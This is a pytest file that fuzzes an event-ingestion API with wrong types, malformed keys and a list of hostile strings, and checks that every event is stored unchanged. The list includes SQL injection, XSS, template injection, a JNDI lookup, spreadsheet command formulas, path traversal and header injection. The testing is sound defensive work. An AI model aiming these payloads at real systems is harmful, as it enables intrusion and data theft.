"""Wrong types, wrong keys and hostile texts at every place of an event: it is accepted, digested and stored."""

import copy
import json
import math
from collections.abc import Iterator
from typing import Any

import pytest
from real_event import EVENT
from siege import Siege

Path = tuple[str | int, ...]

WRONG_VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 2**63, -(10**30), 1e308, "", "text", "\x00", "\ud800\udfff", "x" * 20_000, [], ["x"],
    [None], [[]], [{}], [[["deep"]]], ["k", "v"], [["k", "v", "w"]], {}, {"": ""}, {"x": None}, {"values": "x"},
    {"values": [None, 1, "x", []]}, {"frames": {"0": 1}}, {"type": ["x"], "value": {"x": 1}}, {"0": {"1": {"2": []}}},
    {"$ref": "#"}, {"__proto__": {"x": 1}},
)  # fmt: skip
HOSTILE_TEXTS = (
    "'; DROP TABLE event; --",
    '" OR ""="',
    "%' UNION SELECT password FROM auth_user --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://example.com/a}",
    "#{7*7}<%= 7*7 %>",
    '=HYPERLINK("http://example.com","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "%s%s%n%x{0}{0.__class__}",
    "../../../../etc/passwd\x00.png",
    "\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "\x1b]0;title\x07\x1b[2J",
    "NEAR(a b) AND OR NOT * : ^ \" (",
    "Z\u0351\u036b\u0343\u036a" * 50,
)  # fmt: skip


def _places(value: Any, path: Path = ()) -> Iterator[Path]:
    """Every place of a value: the containers, and what they hold."""
    if path:
        yield path
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, entry in entries:
        yield from _places(entry, (*path, key))


def _name(path: Path) -> str:
    return ".".join(map(str, path))


def _replaced(path: Path, value: Any) -> dict[str, Any]:
    event = copy.deepcopy(EVENT)
    holder: Any = event
    for key in path[:-1]:
        holder = holder[key]
    holder[path[-1]] = value
    return event


def _at(path: Path) -> Any:
    value: Any = EVENT
    for key in path:
        value = value[key]
    return value


PLACES = list(_places(EVENT))
TEXT_PLACES = [path for path in PLACES if isinstance(_at(path), str)]
OBJECT_PLACES = [(), *(path for path in PLACES if isinstance(_at(path), dict))]


def _send(siege: Siege, text: str) -> str:
    """Send an event's JSON without an id of its own; return the id it goes by."""
    payload = text.encode("utf-8", "surrogatepass")
    answer = siege.knock("/api/1/envelope/", b'{}\n{"type":"event","length":%d}\n%s\n' % (len(payload), payload))
    assert answer.status == 200, answer.body
    return str(answer.json["id"])


def _all_stored(siege: Siege, ids: list[str]) -> bool:
    marks = ",".join("?" * len(ids))
    return siege.rows(f"SELECT count(*) FROM event WHERE event_id IN ({marks})", *ids) == [(len(set(ids)),)]


@pytest.mark.parametrize("path", PLACES, ids=_name)
def test_a_value_of_any_wrong_type_is_stored_with_its_event(siege: Siege, path: Path) -> None:
    ids = [_send(siege, json.dumps(_replaced(path, value))) for value in WRONG_VALUES]
    ids += [_send(siege, json.dumps(_replaced(path, value))) for value in (math.nan, math.inf, 10**400)]

    siege.digest()

    assert siege.set_aside() == []
    assert _all_stored(siege, ids)


@pytest.mark.parametrize("text", [1, "x", True, None, [], {}, [[]], 1.5, "9ec79c33", "9" * 33, "\x00" * 32])
def test_an_event_whose_id_is_none_gets_one(siege: Siege, text: Any) -> None:
    event_id = _send(siege, json.dumps({**EVENT, "event_id": text}))

    siege.digest()

    assert len(event_id) == 32
    assert _all_stored(siege, [event_id])


@pytest.mark.parametrize("path", OBJECT_PLACES, ids=lambda path: _name(path) or "event")
def test_wrong_and_doubled_keys_are_stored_with_their_event(siege: Siege, path: Path) -> None:
    given = _at(path)
    wrong_keys = ["", " ", "\x00", "\ud800", "a.b[0]", "x" * 5_000, "__proto__", "constructor", "1", "<b>", "%s", "'"]
    wrong = [dict.fromkeys(wrong_keys, 1), {**given, **dict.fromkeys(wrong_keys, given)}]
    wrong += [
        {key.upper(): value for key, value in given.items()},
        {f"{key}\x00": value for key, value in given.items()},
    ]
    doubled = json.dumps(EVENT).replace(json.dumps(given), "{" + json.dumps(given)[1:-1] + "," + json.dumps(given)[1:])
    events = [json.dumps(_replaced(path, value) if path else value) for value in wrong]

    ids = [_send(siege, text) for text in [*events, doubled]]
    siege.digest()

    assert siege.set_aside() == []
    assert _all_stored(siege, ids)


@pytest.mark.parametrize("path", TEXT_PLACES, ids=_name)
def test_hostile_texts_in_any_field_are_only_text(siege: Siege, path: Path) -> None:
    before = siege.event_count()

    ids = [_send(siege, json.dumps(_replaced(path, text))) for text in HOSTILE_TEXTS]
    siege.digest()

    assert siege.set_aside() == []
    assert _all_stored(siege, ids)
    assert siege.event_count() == before + len(ids)


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a_hostile_message_is_kept_as_it_was_written(siege: Siege, text: str) -> None:
    event_id = _send(siege, json.dumps({"message": text}))

    siege.digest()

    document = siege.stored(event_id)
    assert document is not None
    assert document["payload"]["logentry"]["formatted"] == text.replace("\x00", "\ufffd")
